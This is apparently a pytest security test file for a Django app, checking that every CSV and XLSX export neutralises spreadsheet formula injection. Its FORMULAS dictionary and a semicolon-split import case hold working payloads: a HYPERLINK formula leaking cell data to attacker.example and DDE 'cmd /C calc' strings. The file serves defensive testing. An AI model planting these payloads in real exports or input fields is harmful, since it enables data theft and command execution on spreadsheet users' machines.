"""Formula injection (OWASP "CSV injection"): every export of the app, filled with text that
starts with each formula trigger (= + - @ tab, carriage return), holds no formula and no text
cell a spreadsheet program would run. Negative numbers stay numbers."""

from __future__ import annotations

import pytest
from django.urls import reverse

from assessments.models import BusinessFunction, ITCostArea, Membership, Role
from outsourcing.spreadsheets import FORMULA_TRIGGERS, cell_neutralise, cell_restore
from providers.models import Provider
from tests.factories.roadmaps import capability_get, done_roadmap_for, roadmap_done_create
from tests.security.spreadsheets import csv_cells, export_urls, unsafe_csv_cells, unsafe_xlsx_cells, xlsx_cells

# One text per trigger, each a working payload in some spreadsheet program.
FORMULAS = {
    "=": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_the_payloads_cover_every_trigger():
    assert set(FORMULAS) == set(FORMULA_TRIGGERS)


def test_neutralising_is_undone_exactly_on_import():
    for text in [*FORMULAS.values(), "'=1", "''", "plain", "-1.5"]:
        assert cell_restore(cell_neutralise(text)) == text
        assert not str(cell_neutralise(text)).startswith(FORMULA_TRIGGERS)
    assert cell_neutralise(-1.5) == -1.5


@pytest.fixture
def formula_world(organisation, consultant, manager):
    """Every free-text field that reaches an export starts with a trigger."""
    organisation.name, organisation.industry, organisation.country = FORMULAS["="], FORMULAS["+"], FORMULAS["@"]
    organisation.save()
    roadmap = done_roadmap_for(organisation=organisation, author=consultant, title=FORMULAS["-"])
    assessment = roadmap.assessment
    triggers = list(FORMULAS.values())
    lines: list[ITCostArea | BusinessFunction] = [*assessment.it_cost_areas.all(), *assessment.business_functions.all()]
    for index, line in enumerate(lines):
        line.notes = triggers[index % len(triggers)]
        line.save(update_fields=["notes"])
    for index, provider in enumerate(Provider.objects.order_by("slug")):
        provider.name = triggers[index % len(triggers)] + " provider"
        provider.description = triggers[(index + 1) % len(triggers)]
        provider.headquarters_country = FORMULAS["@"][:80]
        provider.save()
    for code, text in (("compute", FORMULAS["\t"]), ("payroll", FORMULAS["="])):
        capability = capability_get(code)
        capability.name = text[:120]
        capability.save()
    roadmap.decision_comment = FORMULAS["="]
    roadmap.save(update_fields=["decision_comment"])
    scenario = roadmap_done_create(assessment=assessment, name=FORMULAS["@"][:120], overrides={"gate_fraction": 0.7})
    assert Membership.objects.filter(user=manager, organisation=organisation, role=Role.MANAGER).exists()
    return roadmap, scenario


def test_every_export_neutralises_formulas(formula_world, client_for, manager, administrator):
    roadmap, scenario = formula_world
    exports, admin_exports = export_urls(roadmap)
    exports["scenario workbook"] = reverse("assessments:roadmap_export_xlsx", args=[scenario.pk])
    admin_exports["catalogue template XLSX"] = reverse(
        "admin:providers_provider_import_template", kwargs={"fmt": "xlsx"}
    )
    admin_exports["catalogue template CSV"] = reverse("admin:providers_provider_import_template", kwargs={"fmt": "csv"})
    unsafe: list[str] = []
    neutralised = 0
    for client, urls in ((client_for(manager), exports), (client_for(administrator), admin_exports)):
        for label, url in urls.items():
            response = client.get(url)
            assert response.status_code == 200, (label, response.status_code)
            content = response.getvalue()  # the catalogue exports stream
            is_xlsx = content.startswith(b"PK")
            found = unsafe_xlsx_cells(content) if is_xlsx else unsafe_csv_cells(content)
            unsafe.extend(f"{label}: {cell!r}" for cell in found)
            neutralised += content.count(b"'=") + content.count(b"'+") + content.count(b"'@") + content.count(b"'-")
    assert not unsafe, "\n".join(unsafe)
    # The payloads are in the files, neutralised (a test that found no payload at all would prove nothing).
    assert neutralised >= 10, neutralised


def test_the_checkers_see_a_formula():
    from openpyxl import Workbook

    assert set(unsafe_csv_cells(b"name,value\r\n=1+1,-12.5\r\n@SUM(1),'=1\r\n")) == {
        f"{separator!r}: {cell!r}"
        for separator, cell in [
            (",", "=1+1"),
            (",", "@SUM(1)"),
            (";", "=1+1,-12.5"),
            (";", "@SUM(1),'=1"),
            ("\t", "=1+1,-12.5"),
            ("\t", "@SUM(1),'=1"),
        ]
    }
    # A note split on ";" (Excel in Indonesian or German settings) hides a formula in its second part.
    assert unsafe_csv_cells(b'name,note\r\nA,"x;=1+1"\r\n') == ["';': '=1+1\"'"]
    book = Workbook()
    book.active["A1"] = "=1+1"
    book.active["A2"] = "@x"
    book.active["A3"] = -4
    import io

    buffer = io.BytesIO()
    book.save(buffer)
    assert len(unsafe_xlsx_cells(buffer.getvalue())) == 2


CONTROL = "bell\x07 escape\x1b[31m unit\x1f"


def test_text_with_control_characters_does_not_break_a_workbook_download(
    organisation, consultant, manager, administrator, client_for
):
    # A notes field (or a pasted name) can hold characters a workbook cannot; the download must
    # still work, with the text minus those characters, and the CSV keeps the text as typed.
    roadmap = done_roadmap_for(organisation=organisation, author=consultant, title="Title\x08")
    assessment = roadmap.assessment
    assessment.it_cost_areas.update(notes=CONTROL)
    Provider.objects.update(description="=1+1" + CONTROL)
    capability = capability_get("compute")
    capability.name = "\x01=1+1"
    capability.save()
    manager_client, admin_client = client_for(manager), client_for(administrator)
    for url in (
        reverse("assessments:workbook", args=[assessment.pk]),
        reverse("assessments:roadmap_export_xlsx", args=[roadmap.pk]),
    ):
        response = manager_client.get(url)
        assert response.status_code == 200, url
        assert not unsafe_xlsx_cells(response.content), url
    download = manager_client.get(reverse("assessments:workbook", args=[assessment.pk])).content
    workbook_cells = [cell.value for cell in xlsx_cells(download)]
    assert "bell escape[31m unit" in workbook_cells
    # A control character in front of a formula is dropped, and the formula then neutralised.
    assert "'=1+1" in workbook_cells
    catalogue = admin_client.get(reverse("admin:providers_provider_export", kwargs={"fmt": "xlsx"}))
    assert catalogue.status_code == 200
    assert "'=1+1bell escape[31m unit" in [cell.value for cell in xlsx_cells(catalogue.getvalue())]
    sheet = manager_client.get(reverse("assessments:sheet_csv", args=[assessment.pk, "it-cost-areas"])).content
    assert CONTROL in csv_cells(sheet)


def test_notes_with_separator_formulas_import_and_export_safely(client_for, consultant, manager, organisation):
    """The shared case notes-with-semicolon-formulas.csv: notes such as `x;=1+1` import as typed, and
    the CSV download neither lets any separator convention start a cell with a formula nor changes
    them when imported back."""
    from assessments.capture import workbook
    from assessments.models import BusinessFunction, ITCostArea
    from tests.security.spreadsheets import capabilities
    from tests.uploads.conftest import case_bytes

    roadmap = done_roadmap_for(organisation=organisation, author=consultant, title="Notes")
    assessment = roadmap.assessment
    content = case_bytes("uploads", "notes-with-semicolon-formulas.csv")
    preview = workbook.import_preview(name="notes.csv", content=content, currency="IDR", **capabilities())
    assert preview.is_valid, preview.errors
    it_lines = preview.lines_for("it")
    assert it_lines is not None
    notes = [line["notes"] for line in it_lines]
    assert notes == ["x;=1+1", "Reviewed;=cmd|' /C calc'!A0", "ok;@SUM(1+1)", "ok\t=2+2"]
    lines: list[ITCostArea | BusinessFunction] = [
        *assessment.it_cost_areas.order_by("position", "id"),
        *assessment.business_functions.all(),
    ]
    assert len(lines) >= len(notes)
    for line, note in zip(lines, notes, strict=False):
        line.notes = note
        line.save(update_fields=["notes"])
    for sheet, key, model in (("it-cost-areas", "it", ITCostArea), ("business-functions", "bf", BusinessFunction)):
        download = client_for(manager).get(reverse("assessments:sheet_csv", args=[assessment.pk, sheet]))
        assert download.status_code == 200
        assert not unsafe_csv_cells(download.content)
        again = workbook.import_preview(name="again.csv", content=download.content, currency="IDR", **capabilities())
        assert again.is_valid, again.errors
        stored = model.objects.filter(assessment=assessment).order_by("position", "id").values_list("notes", flat=True)
        again_lines = again.lines_for(key)
        assert again_lines is not None
        assert [line["notes"] for line in again_lines] == list(stored)
